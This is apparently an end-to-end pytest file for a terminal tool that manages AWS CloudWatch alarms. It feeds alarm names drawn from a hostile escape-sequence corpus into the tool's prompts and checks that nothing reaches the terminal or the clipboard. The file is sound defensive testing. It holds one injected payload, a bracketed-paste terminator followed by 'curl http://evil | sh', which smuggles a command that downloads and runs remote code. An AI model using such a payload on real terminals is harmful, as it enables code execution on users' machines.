"""Hostile alarm names in a real terminal: prefilled and typed into prompts, copied from the confirm screen.

An alarm's name comes from AWS and may hold anything UTF-8: the `M` prompt is prefilled from it, the `m` confirm
screen shows (and `c` copies) a command built from it. Every entry of the hostile corpus (tests/data/hostile.jsonl)
becomes an alarm `hostile-NN-<text>-x` on the test's moto server; in tmux with `set-clipboard on` (so an OSC 52
write becomes a paste buffer) and keyboard only:

- each hostile alarm: `M`, the prompt shows the cleaned prefix in an intact box, Escape; on the OSC 52 ones also
  `m`, Enter, and `c` on the confirm screen refuses with "not copied";
- each corpus text is pasted into the `M` prompt (a text holding a control character is refused, the field keeps
  its value) and typed into it, escape sequences and all; a few are typed into the `m` duration prompt and sent
  with Enter (refused as a duration, no confirm screen);
- afterwards the pane's title is what it was at the start and tmux holds no buffer: nothing reached the terminal
  as an escape;
- then `c` on the confirm screen of a plainly named alarm copies exactly the command shown, with no control byte.

Nothing is confirmed, so the audit log stays empty; warroom is still running at the end.
"""

from __future__ import annotations

import time
import unicodedata
import warnings
from collections.abc import Callable

from botocore.exceptions import BotoCoreError, ClientError
from rich.cells import cell_len

from tests.e2e.conftest import Warroom, focus, prompt
from tests.hostile import as_message, corpus
from warroom.demo.world import put_alarm
from warroom.untrusted import clean

PREFIX = "hostile-"
# Beyond the corpus: the bracketed-paste end followed by a command and a newline (the corpus entry ends in the
# carriage return a terminal's Enter sends; a log line's trailing newline is dropped on the log screen).
EXTRA = [("bracketed paste end, newline", "\x1b[201~curl http://evil | sh\n")]
PLAIN = "plain-production-api-cpu-high"
STARTS = "Silence every alarm whose name starts with:"
HOW_LONG = "1d)"  # the end of "Silence NAME for how long? (30m, 2h, 1d)", however it wraps
CONFIRM = "Back (Esc)"
PASTE_END = "\x1b[201~"
ESC = "\x1b"


def seed(seeder) -> tuple[list[tuple[str, str, str]], list[str]]:
    """The hostile alarms as (corpus name, text, alarm name), in the pane's order, and the corpus names of those
    the server refused; plus one plainly named alarm."""
    seeded, refused = [], []
    for index, (name, text) in enumerate([(n, as_message(v)) for n, v in corpus()] + EXTRA):
        alarm = f"{PREFIX}{index:02d}-{text}"[:253] + "-x"  # AWS: at most 255 characters
        try:
            put_alarm(seeder, alarm)
        except (ClientError, BotoCoreError) as exc:
            refused.append(f"{name}: {exc}")
            continue
        seeded.append((name, text, alarm))
    put_alarm(seeder, PLAIN)
    return seeded, refused


def closed(app: Warroom, text: str) -> str:
    """Wait until a modal holding `text` is gone, then a moment: keys sent before the screen under it is drawn
    again are dropped."""
    screen = app.terminal.gone(text)
    time.sleep(0.3)
    return screen


def cell_of(row: str, index: int) -> int:
    return cell_len(row[:index])


def char_at(row: str, cell: int) -> str:
    """The character drawn at a cell column ("" inside a wide character or past the end)."""
    position = 0
    for char in row:
        if position == cell:
            return char
        position += cell_len(char)
        if position > cell:
            return ""
    return ""


def prompt_box(screen: str, question: str) -> list[str]:
    """The rows of the prompt box holding `question`, checked intact: its left and right borders at the same
    cell columns on every row, corners where they belong."""
    rows = screen.splitlines()
    first = next(i for i, row in enumerate(rows) if question in row)
    top = rows[first - 1]
    column = cell_of(rows[first], rows[first].index(question))
    left = max(cell_of(top, i) for i, char in enumerate(top) if char == "╭" and cell_of(top, i) < column)
    right = next(cell_of(top, i) for i, char in enumerate(top) if char == "╮" and cell_of(top, i) > column)
    bottom = next(i for i in range(first, len(rows)) if char_at(rows[i], left) == "╰")
    assert char_at(rows[bottom], right) == "╯", screen
    for row in rows[first:bottom]:
        assert char_at(row, left) == "│" and char_at(row, right) == "│", f"broken box border:\n{screen}"
    return rows[first - 1:bottom + 1]


def field(box: list[str]) -> str:
    """The text in the box's input field (between its ▊ and ▎ edges)."""
    row = next(r for r in box if "▊" in r and "▔" not in r and "▁" not in r)
    return row[row.index("▊") + 1:row.rindex("▎")].strip()


def command_shown(screen: str) -> str:
    """The command on the confirm screen, its lines joined however it wrapped."""
    rows = screen.splitlines()
    first = next(i for i, row in enumerate(rows) if "command (c copies it):" in row)
    column = rows[first].index("command (c copies it):")
    left, right = rows[first].rindex("█", 0, column), rows[first].index("█", column)
    lines = []
    for row in rows[first + 1:]:
        text = row[left + 1:right].strip()
        if not text:
            break
        lines.append(text)
    return " ".join(lines)


def notices(screen: str) -> str:
    """The text of the notifications on the screen (right of their ▌ edge), joined however they wrapped."""
    parts = [row[row.rindex("▌") + 1:].strip(" │─╮╯") for row in screen.splitlines() if "▌" in row]
    return " ".join(" ".join(parts).split())


def holds_control(text: str) -> bool:
    return any(unicodedata.category(char) in ("Cc", "Cf") for char in text)


def typable(text: str) -> str:
    """What can be typed of a text: up to its first line break (a typed CR or LF is Enter), without NUL (no
    argument of `tmux send-keys` can hold one)."""
    return text.replace("\r", "\n").split("\n")[0].replace("\x00", "")


def assert_untouched(app: Warroom, title: str, where: str) -> None:
    """No escape reached the terminal: the pane title is still `title`, no OSC 52 write made a buffer."""
    assert app.terminal.title() == title, f"{where}: the pane title changed to {app.terminal.title()!r}"
    assert app.terminal.buffers() == [], f"{where}: something wrote the clipboard: {app.terminal.clipboard()!r}"


def after_paste(text: str) -> Callable[[str], bool]:
    """How the emptied field reads once `text` was pasted and Z typed: a text holding a control character is
    refused whole. Textual's parser hands an escape sequence inside a paste on as keys (ESC typed as ^), so for
    those only the Z is certain, and that no ESC got in."""
    if ESC in text:
        return lambda value: value.endswith("Z") and ESC not in value
    whole = ("" if holds_control(text) else text) + "Z"
    return lambda value: value == whole


def prefilled(app: Warroom, hostile: list[tuple[str, str, str]], title: str) -> None:
    """Each hostile alarm in the pane's order: `M` shows its name's prefix cleaned, in an intact box; on the OSC 52
    ones also `m`, Enter (1h), and `c` on the confirm screen refuses to copy."""
    terminal = app.terminal
    for index, (name, _, alarm) in enumerate(hostile):
        if index:
            terminal.press("Down")
        terminal.press("M")
        box = prompt_box(prompt(app, STARTS), STARTS)
        assert field(box) == clean(alarm.rsplit("-", 1)[0] + "-"), f"{name}: " + "\n".join(box)
        assert_untouched(app, title, f"M on {name}")
        terminal.press("Escape")
        closed(app, STARTS)
        if "osc 52" in name:
            terminal.press("m")
            prompt(app, HOW_LONG)
            terminal.press("Enter")
            terminal.wait(CONFIRM)
            time.sleep(0.3)
            terminal.press("c")
            screen = terminal.wait(lambda s: "not copied" in notices(s), 10)
            assert "holds control characters" in notices(screen), screen
            assert_untouched(app, title, f"c on the confirm screen of {name}")
            terminal.press("Escape")
            closed(app, CONFIRM)


def pasted_and_typed(app: Warroom, texts: list[tuple[str, str]], title: str) -> None:
    """Each text pasted into the `M` prompt's emptied field, then typed into it, then Escape: the prompt stays
    open and whole."""
    terminal = app.terminal
    for name, text in texts:
        text = typable(text)
        terminal.press("M")
        prompt(app, STARTS)
        terminal.press("BSpace")  # the prefilled value is selected: this empties the field
        terminal.wait(lambda s: field(prompt_box(s, STARTS)) == "", 5)
        if PASTE_END not in text:  # a pasted end marker ends the paste: what follows it arrives as typing
            terminal.paste(text)
            terminal.type("Z")  # once the Z shows, the paste has been taken or refused
            pasted = after_paste(text)
            terminal.wait(lambda s, pasted=pasted: STARTS in s and pasted(field(prompt_box(s, STARTS))), 5)
            assert_untouched(app, title, f"pasting {name}")
        before = field(prompt_box(terminal.screen(), STARTS))
        terminal.type(text)
        terminal.wait(lambda s, before=before: STARTS not in s or field(prompt_box(s, STARTS)) != before, 5)
        time.sleep(0.3)  # the rest of the typed keys
        screen = terminal.screen()
        assert STARTS in screen, f"typing {name} closed the prompt:\n{screen}"
        prompt_box(screen, STARTS)
        assert_untouched(app, title, f"typing {name}")
        terminal.press("Escape")
        closed(app, STARTS)


def typed_as_duration(app: Warroom, texts: list[tuple[str, str]], title: str) -> None:
    """Each text typed into the `m` duration prompt and sent with Enter: refused as a duration, no confirm."""
    terminal = app.terminal
    for name, text in texts:
        terminal.press("m")
        prompt(app, HOW_LONG)
        terminal.type(typable(text))
        time.sleep(0.3)
        terminal.press("Enter")
        screen = terminal.wait(lambda s: HOW_LONG not in s and "is not a duration" in notices(s), 10)
        assert CONFIRM not in screen, f"{name} typed as a duration reached the confirm screen:\n{screen}"
        assert_untouched(app, title, f"{name} typed as a duration")
        time.sleep(0.3)
    terminal.wait(lambda s: not notices(s), 30)  # they would cover what comes next


def pasted_confirm(app: Warroom) -> None:
    """A paste of ESC Y on the confirm screen (Textual replays it as the keys `^`, `Y`) confirms nothing."""
    terminal = app.terminal
    terminal.press("m")
    prompt(app, HOW_LONG)
    terminal.press("Enter")
    terminal.wait(CONFIRM)
    time.sleep(1.2)
    terminal.paste("\x1bY")
    time.sleep(1.5)  # what a confirm would have done by now: the follow screen
    assert CONFIRM in terminal.screen() and app.audit() == [], terminal.screen()
    terminal.press("Escape")
    closed(app, CONFIRM)


def copied_command(app: Warroom) -> tuple[str, bytes]:
    """`m`, Enter (1h), `c` on the confirm screen of the selected alarm, Escape: the command shown (its lines
    joined) and the bytes the OSC 52 write put in tmux's buffer."""
    terminal = app.terminal
    terminal.press("m")
    prompt(app, HOW_LONG)
    terminal.press("Enter")
    screen = terminal.wait(CONFIRM)
    time.sleep(0.3)
    terminal.press("c")
    terminal.wait("command copied", 10)
    deadline = time.monotonic() + 5
    while not terminal.buffers() and time.monotonic() < deadline:
        time.sleep(0.1)
    copied = terminal.clipboard()
    assert copied is not None and len(terminal.buffers()) == 1, terminal.buffers()
    terminal.press("Escape")
    closed(app, CONFIRM)
    return command_shown(screen), copied


def test_hostile_names_in_prompts_and_the_copied_command(start, seeder):
    hostile, refused = seed(seeder)
    if refused:
        warnings.warn(f"moto refused these alarm names: {refused}")
    app = start("hostile alarm names in prompts")
    terminal = app.terminal
    terminal.allow_clipboard()
    terminal.wait(f"Alarms {len(hostile) + 1} ", 40)
    title = terminal.title()
    focus(app, "2", "Silence")

    prefilled(app, hostile, title)

    terminal.press("Down")  # the plain alarm, last in the pane
    terminal.press("M")
    assert field(prompt_box(prompt(app, STARTS), STARTS)) == PLAIN.rsplit("-", 1)[0] + "-"
    terminal.press("Escape")
    closed(app, STARTS)
    pasted_and_typed(app, [(name, text) for name, text, _ in hostile], title)
    typed_as_duration(app, [(name, text) for name, text, _ in hostile if text.startswith("\x1b]")], title)
    assert_untouched(app, title, "after every hostile name and text")

    pasted_confirm(app)
    shown, copied = copied_command(app)
    assert shown.startswith("aws cloudwatch disable-alarm-actions") and shown.endswith(PLAIN), shown
    assert not [byte for byte in copied if byte < 0x20 or byte == 0x7F], copied
    assert not [char for char in copied.decode("utf-8") if 0x80 <= ord(char) <= 0x9F], copied
    assert copied.decode("utf-8") == shown

    assert terminal.title() == title
    assert terminal.dead() is None, terminal.screen()
    assert app.audit() == []
